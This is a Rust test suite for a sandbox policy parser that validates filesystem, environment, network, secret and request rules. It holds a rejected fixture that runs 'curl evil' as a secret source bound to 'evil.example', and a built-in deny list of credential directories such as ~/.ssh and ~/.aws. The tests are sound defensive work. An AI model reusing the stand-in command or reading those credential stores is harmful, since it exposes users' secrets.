use std::path::{Path, PathBuf};

use super::*;

const HOME: &str = "/home/u";

fn parse(text: &str) -> Result<Layer, PolicyError> {
    parse_policy(
        Path::new("/x/.cordon.toml"),
        text,
        Tier::User,
        Path::new(HOME),
    )
}

fn err(text: &str) -> String {
    match parse(text) {
        Ok(_) => panic!("accepted: {text}"),
        Err(e) => e.to_string(),
    }
}

#[test]
fn full_schema_parses_with_origins() {
    let text = r#"
[filesystem]
allow_write = ["~/src/other", "/data/x"]
allow_read  = ["~/.aws/config"]
deny_read   = ["~/.secret"]
protect     = ["~/.myrc", "**/.idea/**", "Makefile.local", "/opt/x/**"]
[env]
pass = ["CARGO_HOME", "LANG_*"]
[env.set]
FOO = "bar"
[limits]
max_tasks = 4096
memory_mb = 8192
layer_mb  = 2048
[network]
allow = ["crates.io", "*.github.com"]
deny = []
allow_cidrs = ["10.0.0.0/8", "::1"]
unknown = "deny"
[network.hosts]
example = "198.18.0.1"
[approval]
timeout = 60
session_scope = false
"#;
    let l = parse(text).unwrap();
    assert_eq!(l.allow_write[0].value, PathBuf::from("/home/u/src/other"));
    assert_eq!(l.allow_write[0].origin.line, Some(3));
    assert_eq!(
        l.allow_write[0].origin.file.as_deref(),
        Some(Path::new("/x/.cordon.toml"))
    );
    assert_eq!(l.allow_read[0].value, PathBuf::from("/home/u/.aws/config"));
    assert_eq!(l.deny_read[0].origin.line, Some(5));
    assert_eq!(l.protect.len(), 4);
    assert_eq!(l.protect[0].kind, crate::ProtectKind::Home);
    assert_eq!(l.protect[1].kind, crate::ProtectKind::Anywhere);
    assert_eq!(l.protect[3].kind, crate::ProtectKind::Absolute);
    assert_eq!(l.env_pass.len(), 2);
    assert_eq!(l.env_set[0].value.0, "FOO");
    assert_eq!(l.env_set[0].origin.line, Some(10));
    assert_eq!(l.max_tasks.as_ref().map(|r| r.value), Some(4096));
    assert_eq!(l.layer_mb.as_ref().map(|r| r.origin.line), Some(Some(14)));
    assert_eq!(
        l.net_unknown.as_ref().map(|r| r.value),
        Some(UnknownAction::Deny)
    );
    assert_eq!(
        l.net_hosts[0].value,
        ("example".into(), "198.18.0.1".parse().unwrap())
    );
    assert_eq!(
        l.approval_session_scope.as_ref().map(|r| r.value),
        Some(false)
    );
}

#[test]
fn empty_file_is_fine() {
    assert_eq!(parse("").unwrap(), Layer::default());
    assert_eq!(parse("# only a comment\n").unwrap(), Layer::default());
}

#[test]
fn unknown_keys_have_file_line_col() {
    let e = err("[filesystem]\n\nalow_write = [\"/x\"]\n");
    assert!(
        e.starts_with("/x/.cordon.toml:3:1: unknown field `alow_write`, expected one of"),
        "{e}"
    );
    assert!(!e.contains('\n'));
    assert_eq!(
        err("[filesystem]\n\nalow_write = [\"/x\"]\n"),
        "/x/.cordon.toml:3:1: unknown field `alow_write`, expected one of `allow_write`, `allow_read`, `deny_read`, `protect`, `ask_read`, `ask_write`, `mode`"
    );
    let e = err("[filesystem]\nallow_write = []\n[limts]\nmax_tasks = 1\n");
    assert!(
        e.starts_with("/x/.cordon.toml:3:2: unknown field `limts`"),
        "{e}"
    );
    let e = err("[network.hosts]\na = \"1.2.3.4\"\n[approval]\n  timeout = 1\n  scope = true\n");
    assert!(
        e.starts_with("/x/.cordon.toml:5:3: unknown field `scope`"),
        "{e}"
    );
}

#[test]
fn syntax_and_type_errors_have_locations() {
    let e = err("[filesystem]\nallow_write = \"/x\"\n");
    assert!(e.starts_with("/x/.cordon.toml:2:15: "), "{e}");
    let e = err("[limits]\nmax_tasks = -1\n");
    assert!(e.starts_with("/x/.cordon.toml:2:13: "), "{e}");
    let e = err("[limits]\nmax_tasks = 99999999999\n");
    assert!(e.starts_with("/x/.cordon.toml:2:13: "), "{e}");
    let e = err("[filesystem\n");
    assert!(e.starts_with("/x/.cordon.toml:1:"), "{e}");
    let e = err("a = 1\na = 2\n");
    assert!(e.starts_with("/x/.cordon.toml:"), "{e}");
}

#[test]
fn bad_values_have_locations() {
    let cases: &[(&str, &str)] = &[
        (
            "[filesystem]\nallow_write = [\"rel/x\"]\n",
            "2:16: \"rel/x\": relative path",
        ),
        (
            "[filesystem]\nallow_read = [\"/a/../b\"]\n",
            "2:15: \"/a/../b\": path contains a `..`",
        ),
        (
            "[filesystem]\ndeny_read = [\"/ok\", \"\"]\n",
            "2:21: \"\": empty path",
        ),
        ("[filesystem]\ndeny_read = [\"/a\\u0000b\"]\n", "2:14: "),
        (
            "[filesystem]\ndeny_read = [\"~root/x\"]\n",
            "2:14: \"~root/x\": `~user`",
        ),
        (
            "[filesystem]\nallow_write = [\"~\"]\n",
            "2:16: allow_write `/home/u` is $HOME itself",
        ),
        (
            "[filesystem]\nallow_write = [\"/\"]\n",
            "2:16: allow_write `/` is the root directory",
        ),
        (
            "[filesystem]\nallow_write = [\"/home\"]\n",
            "2:16: allow_write `/home` is an ancestor of $HOME",
        ),
        (
            "[filesystem]\nprotect = [\"a/../b\"]\n",
            "2:12: protect `a/../b`",
        ),
        (
            "[filesystem]\nprotect = [\"*.{a,b}\"]\n",
            "2:12: protect `*.{a,b}`: unsupported glob",
        ),
        (
            "[filesystem]\nprotect = [\"\"]\n",
            "2:12: protect ``: empty pattern",
        ),
        (
            "[env]\npass = [\"A=B\"]\n",
            "2:9: env.pass: invalid character '='",
        ),
        (
            "[env]\npass = [\"\"]\n",
            "2:9: env.pass: empty variable name",
        ),
        (
            "[env.set]\n\"A*\" = \"x\"\n",
            "2:1: env.set: invalid character '*'",
        ),
        (
            "[env.set]\nA = \"x\\u0000\"\n",
            "2:5: env.set: value contains a NUL byte",
        ),
        (
            "[limits]\nmax_tasks = 0\n",
            "2:13: limits.max_tasks must be at least 1",
        ),
        (
            "[limits]\nlayer_mb = 0\n",
            "2:12: limits.layer_mb must be at least 1",
        ),
        (
            "[network]\nunknown = \"maybe\"\n",
            "2:11: network.unknown: expected \"ask\" or \"deny\"",
        ),
        (
            "[network]\nallow_cidrs = [\"10.0.0.0/33\"]\n",
            "2:16: network.allow_cidrs",
        ),
        ("[network]\nallow = [\"a b\"]\n", "2:10: network.allow"),
        ("[network.hosts]\nx = \"not-ip\"\n", "2:5: network.hosts"),
        (
            "[network.hosts]\n\"a b\" = \"1.1.1.1\"\n",
            "2:1: network.hosts",
        ),
        (
            "[approval]\ntimeout = 0\n",
            "2:11: approval.timeout must be at least 1",
        ),
    ];
    for (text, want) in cases {
        let e = err(text);
        let want = format!("/x/.cordon.toml:{want}");
        assert!(
            e.starts_with(&want),
            "for {text:?}\n got: {e}\nwant: {want}"
        );
        assert!(!e.contains('\n'));
    }
}

fn parse_user(text: &str) -> Result<Layer, PolicyError> {
    parse_policy(
        Path::new("/u/policy.toml"),
        text,
        Tier::User,
        Path::new(HOME),
    )
}

#[test]
fn secrets_are_parsed_strictly() {
    let l = parse_user(
        "[secrets.GITHUB_TOKEN]\nfrom_env = \"GH\"\nhosts = [\"api.github.com\", \"*.github.com\"]\nin_query = true\n",
    )
    .unwrap();
    let d = &l.secrets[0].value;
    assert_eq!(d.name, "GITHUB_TOKEN");
    assert_eq!(d.source, crate::SecretSource::Env("GH".into()));
    assert!(d.in_query && !d.in_body && !d.allow_plaintext);
    assert_eq!(d.inject, crate::Inject::Door);
    assert_eq!(l.secrets[0].origin.line, Some(1));
    let l = parse_user(
        "[secrets.K]\nfrom_file = \"~/k\"\nhosts = [\"a.example\"]\ninject = \"file\"\n",
    )
    .unwrap();
    assert_eq!(
        l.secrets[0].value.source,
        crate::SecretSource::File("/home/u/k".into())
    );
    for (text, want) in [
        (
            "[secrets.A]\nhosts = [\"a.example\"]\n",
            "1:1: secrets.A: exactly one of",
        ),
        (
            "[secrets.A]\nfrom_env = \"X\"\nfrom_file = \"/x\"\nhosts = [\"a.example\"]\n",
            "exactly one of",
        ),
        (
            "[secrets.A]\nfrom_env = \"X\"\n",
            "`hosts` (the hosts that may receive it) is required",
        ),
        (
            "[secrets.A]\nfrom_env = \"X\"\nhosts = []\n",
            "3:9: secrets.A.hosts: name at least one host",
        ),
        (
            "[secrets.A]\nfrom_env = \"X\"\nhosts = [\"a b\"]\n",
            "3:10: secrets.A.hosts",
        ),
        (
            "[secrets.A]\nfrom_env = \"X\"\nhosts = [\"a.example\"]\nttl = 5\n",
            "4:7: secrets.A.ttl: only a from_command",
        ),
        (
            "[secrets.A]\nfrom_command = []\nhosts = [\"a.example\"]\n",
            "2:16: secrets.A.from_command: needs a program",
        ),
        (
            "[secrets.A]\nfrom_env = \"X\"\nhosts = [\"a.example\"]\ninject = \"disk\"\n",
            "4:10: secrets.A.inject",
        ),
        (
            "[secrets.A]\nfrom_env = \"X\"\nhosts = [\"a.example\"]\nvalue = \"x\"\n",
            "unknown field `value`",
        ),
        (
            "[secrets.\"A*\"]\nfrom_env = \"X\"\nhosts = [\"a.example\"]\n",
            "1:10: secrets: invalid character",
        ),
        (
            "[requests.\"a.example\"]\nallow = [\"GET\"]\n",
            "2:10: requests.\"a.example\".allow",
        ),
        (
            "[requests.\"a.example\"]\nallow = [\"GET /x?y\"]\n",
            "carry no query",
        ),
        (
            "[requests.\"a.example\"]\ndeny = [\"GET /\"]\n",
            "unknown field `deny`",
        ),
    ] {
        let e = parse_user(text).unwrap_err().to_string();
        assert!(e.contains(want), "for {text:?}\n got: {e}\nwant: {want}");
        assert!(!e.contains('\n'));
    }
    let l = parse_user(
        "[requests.\"API.github.com\"]\nallow = [\"GET /**\", \"post /repos/acme/*/pulls\"]\n",
    )
    .unwrap();
    assert_eq!(l.requests[0].value.host, "api.github.com");
    assert_eq!(l.requests[0].value.allow.len(), 2);
}

#[test]
fn project_may_not_define_secrets_but_may_have_request_rules() {
    let project = |t: &str| {
        parse_policy(
            Path::new("/x/.cordon.toml"),
            t,
            Tier::Project,
            Path::new(HOME),
        )
    };
    let e = project(
        "[secrets.T]\nfrom_command = [\"sh\", \"-c\", \"curl evil\"]\nhosts = [\"evil.example\"]\n",
    )
    .unwrap_err()
    .to_string();
    assert!(
        e.starts_with("/x/.cordon.toml:1:10: secrets.T: a project policy may not define secrets"),
        "{e}"
    );
    assert!(project("[requests.\"a.example\"]\nallow = [\"GET /**\"]\n").is_ok());
}

#[test]
fn builtin_data_parses() {
    let l = crate::builtin_layer(Path::new(HOME)).unwrap();
    let has = |p: &str| l.deny_read.iter().any(|r| r.value == Path::new(p));
    for p in [
        "/home/u/.ssh",
        "/home/u/.aws",
        "/home/u/.gnupg",
        "/home/u/.netrc",
        "/home/u/.config/gh",
        "/home/u/.npmrc",
    ] {
        assert!(has(p), "{p} missing");
    }
    assert!(l
        .deny_read
        .iter()
        .all(|r| r.origin.tier == Tier::Builtin && r.origin.line.is_some()));
    assert_eq!(l.max_tasks.map(|r| r.value), Some(4096));
    assert_eq!(l.memory_mb.map(|r| r.value), Some(8192));
    assert_eq!(l.layer_mb.map(|r| r.value), Some(2048));
}

mod fuzz {
    use super::*;
    use proptest::prelude::*;

    proptest! {
        /// Arbitrary text: Ok or a one-line located error, never a panic.
        #[test]
        fn parser_never_panics(text in "\\PC{0,300}") {
            if let Err(e) = parse(&text) {
                let s = e.to_string();
                prop_assert!(!s.contains('\n'));
                prop_assert!(s.starts_with("/x/.cordon.toml:"));
            }
        }

        /// Near-valid text built from schema fragments exercises the value checks.
        #[test]
        fn parser_never_panics_on_near_valid(
            parts in prop::collection::vec(prop::sample::select(vec![
                "[filesystem]\n", "[env]\n", "[env.set]\n", "[limits]\n", "[network]\n",
                "[network.hosts]\n", "[approval]\n", "[secrets.A]\n", "[requests.\"a.b\"]\n",
                "from_env = \"X\"\n", "hosts = [\"a.b\"]\n", "ttl = 0\n", "inject = \"x\"\n",
                "allow_write = [\"~/x\"]\n", "allow_read = [\"..\"]\n", "deny_read = [\"/a//b/\"]\n",
                "protect = [\"**\", \"a/**/b\", \"~/\"]\n", "pass = [\"*\"]\n", "A = \"b\"\n",
                "max_tasks = 0\n", "memory_mb = 18446744073709551615\n", "unknown = \"deny\"\n",
                "timeout = 1\n", "session_scope = 1\n", "x = \"1.2.3.4\"\n", "allow = [\"\"]\n",
                "\"\" = \"\"\n", "allow_cidrs = [\"::/0\", \"1.2.3.4/\"]\n",
            ]), 0..10),
        ) {
            let text: String = parts.concat();
            if let Err(e) = parse(&text) {
                prop_assert!(!e.to_string().contains('\n'));
            }
        }
    }
}

#[test]
fn deep_nesting_is_an_error_not_a_stack_overflow() {
    for text in [
        format!("a = {}", "[".repeat(100_000)),
        format!("a = {}", "{ b = ".repeat(100_000)),
        format!(
            "[filesystem]\nallow_write = {}\"/x\"{}\n",
            "[".repeat(50_000),
            "]".repeat(50_000)
        ),
    ] {
        let e = err(&text);
        assert!(
            e.starts_with("/x/.cordon.toml:1:") || e.starts_with("/x/.cordon.toml:2:"),
            "{e}"
        );
    }
}

#[test]
fn domain_patterns_are_checked_as_the_door_reads_them() {
    for bad in ["foo*.com", "a.*.b", "127.0.0.1", "x.test:0", "x..test", "*"] {
        let e = err(&format!("[network]\nallow = [{bad:?}]\n"));
        assert!(
            e.contains("2:10: network.allow: bad domain pattern"),
            "{bad}: {e}"
        );
        let e = err(&format!("[network]\ndeny = [{bad:?}]\n"));
        assert!(e.contains("2:9: network.deny"), "{bad}: {e}");
    }
    let l = parse("[network]\nallow = [\"*.Example.com:8443\"]\n").unwrap();
    assert!(l.net_allow[0].value.matches("a.example.com", 8443));
}

#[test]
fn allow_cidrs_take_an_optional_port() {
    for ok in [
        "10.0.0.0/8",
        "10.0.0.0/8:5432",
        "198.18.0.0/15:*",
        "1.2.3.4:22",
        "1.2.3.4",
        "[fd00::]/8:443",
        "[fd00::/8]:*",
        "fd00::/8",
        "fd00::/8:*",
        "::1",
    ] {
        let l = parse(&format!("[network]\nallow_cidrs = [{ok:?}]\n"))
            .unwrap_or_else(|e| panic!("{ok} should be accepted: {e}"));
        assert_eq!(l.net_allow_cidrs[0].value.as_str(), ok);
    }
    for bad in [
        "10.0.0.0/33",
        "10.0.0.0/8:0",
        "10.0.0.0/8:99999",
        "10.0.0.0/8:x",
        "nope",
        "[fd00::/8]:http",
    ] {
        let e = err(&format!("[network]\nallow_cidrs = [{bad:?}]\n"));
        assert!(e.contains("2:16: network.allow_cidrs"), "{bad}: {e}");
    }
}
